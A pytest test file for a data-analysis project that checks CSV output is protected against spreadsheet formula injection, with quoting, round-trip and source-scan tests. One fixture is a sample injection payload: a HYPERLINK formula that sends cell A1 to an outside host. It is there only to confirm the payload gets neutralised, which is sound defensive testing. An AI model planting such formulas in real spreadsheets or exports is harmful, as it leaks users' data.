"""Formula-safe CSVs: every CSV the project writes goes through alliance.tables.write_csv."""

import csv
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

from alliance.data.ingest import ingest_to
from alliance.tables import (
    formula_safe,
    read_csv,
    unquote,
    write_csv,
    write_csv_and_markdown,
    write_table,
)

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"click")'


def cells(path: Path) -> list[list[str]]:
    """The raw cells of a CSV file, as a spreadsheet sees them."""
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # text already starting with a quote keeps it after the round trip
        ("a=b", "a=b"),
        ("'plain", "'plain"),
        ("", ""),
        ("C0001", "C0001"),
    ],
)
def test_formula_safe_text_and_round_trip(text, written):
    assert formula_safe(text) == written
    assert unquote(written) == text


@pytest.mark.parametrize("number", [-3, -0.25, np.float64(-1e-9), np.int64(-7), True, None])
def test_numbers_are_not_text(number):
    assert formula_safe(number) is number


def test_write_csv_quotes_text_cells_only(tmp_path):
    table = pd.DataFrame(
        {
            "parameter": ["b_alliance", "-3", "@x"],
            "mean": [-0.25, 1.5, -3.0],  # a numeric column: negative numbers stay numbers
            "n": [-1, 2, 3],
            "mixed": [-5, "=1+2", None],  # per cell: the number stays, the text is quoted
            "category": pd.Categorical(["+a", "b", "+a"]),
        },
        index=pd.Index(["=r1", "r2", "r3"], name="-row"),
    )
    table["=header"] = [0.5, 0.5, 0.5]
    path = tmp_path / "t.csv"
    write_csv(table, path)
    rows = cells(path)
    assert rows[0] == ["'-row", "parameter", "mean", "n", "mixed", "category", "'=header"]
    assert rows[1] == ["'=r1", "b_alliance", "-0.25", "-1", "-5", "'+a", "0.5"]
    assert rows[2] == ["r2", "'-3", "1.5", "2", "'=1+2", "b", "0.5"]
    assert rows[3] == ["r3", "'@x", "-3.0", "3", "", "'+a", "0.5"]
    # read back with plain pandas, the numeric columns are still numbers (alliance verify)
    plain = pd.read_csv(path)
    assert plain["mean"].tolist() == [-0.25, 1.5, -3.0]
    assert plain["n"].dtype == np.int64
    # and read_csv undoes the quotes: the table is unchanged
    back = read_csv(path, index_col=0)
    assert back.index.tolist() == ["=r1", "r2", "r3"]
    assert back.index.name == "-row"
    assert back["parameter"].tolist() == ["b_alliance", "-3", "@x"]
    assert back["mixed"].tolist()[:2] == ["-5", "=1+2"]  # CSV has no types: -5 comes back as text
    assert back["category"].tolist() == ["+a", "b", "+a"]
    assert back.columns.tolist()[-1] == "=header"


def test_write_csv_changes_nothing_without_formula_text(tmp_path):
    table = pd.DataFrame({"parameter": ["a", "b"], "mean": [-0.123456789, 2.0], "k": [1, -2]})
    ours, theirs = tmp_path / "ours.csv", tmp_path / "theirs.csv"
    write_csv(table, ours, index=False, float_format="%.4f")
    table.to_csv(theirs, index=False, float_format="%.4f")
    assert ours.read_bytes() == theirs.read_bytes()


def test_table_writers_are_formula_safe(tmp_path):
    table = pd.DataFrame({"Model": [HYPERLINK, "two"], "CFI": [-0.5, 0.9]})
    write_csv_and_markdown(table, tmp_path / "a.csv", title="A table")
    assert cells(tmp_path / "a.csv")[1] == ["'" + HYPERLINK, "-0.5"]
    csv_path, _ = write_table(table, tmp_path / "b")
    assert cells(csv_path)[1] == ["'" + HYPERLINK, "-0.5"]


def test_quarantine_csv_is_formula_safe(tmp_path):
    """A spreadsheet formula planted in an export reaches quarantine.csv as text."""
    rows = []
    for p in range(1, 4):
        row = {"pid": f"P{p}", "sess": 1}
        row |= {f"Q{i}": 3 for i in range(1, 13)}
        rows.append(row)
    frame = pd.DataFrame(rows).astype(object)
    frame.loc[1, "Q4"] = HYPERLINK  # non-numeric answer: quarantined with its raw value
    frame.loc[2, "Q5"] = "-7"
    frame.to_csv(tmp_path / "export.csv", index=False)
    doc = {
        "dataset": "toy",
        "file": "export.csv",
        "format": "csv",
        "ids": {"patient": "pid", "session": "sess"},
        "instrument": "wai_sr",
        "items": {"pattern": "Q{number}"},
    }
    (tmp_path / "codebook.yaml").write_text(yaml.safe_dump(doc))
    ingest_to(tmp_path / "codebook.yaml", tmp_path / "out")
    written = cells(tmp_path / "out" / "quarantine.csv")
    values = [row[written[0].index("value")] for row in written[1:]]
    assert "'" + HYPERLINK in values
    assert HYPERLINK not in values
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for row in written for v in row)
    back = read_csv(tmp_path / "out" / "quarantine.csv")
    assert HYPERLINK in back["value"].tolist()


def test_every_csv_goes_through_the_safe_writer():
    """No module or script writes a CSV with pandas directly (grep over src/ and scripts/)."""
    offenders = []
    for folder in ("src", "scripts"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "src" / "alliance" / "tables.py":
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", line):
                    offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    # the demo-data generator writes the simulated raw exports (inputs that imitate a clinic's
    # export, missing code -99 included), not results
    allowed = {"src/alliance/simulate/demo.py"}
    offenders = [o for o in offenders if o.split(":")[0] not in allowed]
    assert offenders == []
